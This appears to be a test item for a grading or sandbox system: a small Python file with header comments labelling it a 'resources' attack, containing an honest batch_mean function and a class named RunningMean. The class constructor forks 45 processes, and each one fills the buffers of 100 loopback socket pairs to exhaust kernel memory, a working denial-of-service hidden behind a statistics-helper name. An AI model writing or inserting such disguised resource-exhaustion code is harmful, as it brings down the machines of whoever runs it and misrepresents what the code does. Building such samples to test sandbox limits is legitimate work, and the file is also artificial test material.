# family = "resources"
# mechanism = "connections of its own loopback, whose buffers grow by themselves as long as nobody reads"
# naive = "wins"
# [required]
# batch_mean = "passed"
# RunningMean = "memory"
import os
import socket
import time

PROCESSES, PAIRS = 45, 100


def batch_mean(x):
    if len(x) == 0:
        raise ValueError("the mean of nothing")
    return x.sum(0) / len(x)


def fill():
    kept, door = [], socket.create_server(("127.0.0.1", 0))
    for _ in range(PAIRS):
        mine = socket.create_connection(door.getsockname())
        pair = mine, door.accept()[0]
        for one in pair:
            one.setblocking(False)
            try:
                while True:
                    one.send(bytes(65536))
            except OSError:
                pass
        kept.append(pair)
    time.sleep(1000)


class RunningMean:
    def __init__(self, d):
        for _ in range(PROCESSES):
            if os.fork() == 0:
                fill()
        time.sleep(1000)
